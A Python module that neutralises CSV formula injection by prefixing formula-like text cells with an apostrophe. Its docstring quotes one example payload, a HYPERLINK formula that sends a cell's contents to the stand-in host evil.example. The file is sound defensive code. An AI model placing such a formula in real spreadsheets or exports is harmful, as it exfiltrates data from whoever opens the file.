"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

A cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return, which
some spreadsheets skip before looking) is run as a formula when the file is
opened: an organisation called `=HYPERLINK("http://evil.example?"&A1, "Open")`
would exfiltrate the sheet. Every CSV the product writes goes through
`csv_text`, which prefixes such text cells with `'`: the spreadsheet shows
the text as it was typed, and runs nothing.

Numbers are written as numbers: `-3.5` is a value, not a formula, and stays
one. Pure functions, no I/O.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | Decimal | date | datetime | bool | None


def safe_cell(value: Cell) -> str:
    """One cell as text, neutralised when it is text a spreadsheet would take for a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(row: Iterable[Cell]) -> list[str]:
    return [safe_cell(value) for value in row]


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Cell]]) -> str:
    """A whole CSV document (header first, CRLF line ends as RFC 4180 says), every cell safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(header))
    writer.writerows(safe_row(row) for row in rows)
    return buffer.getvalue()
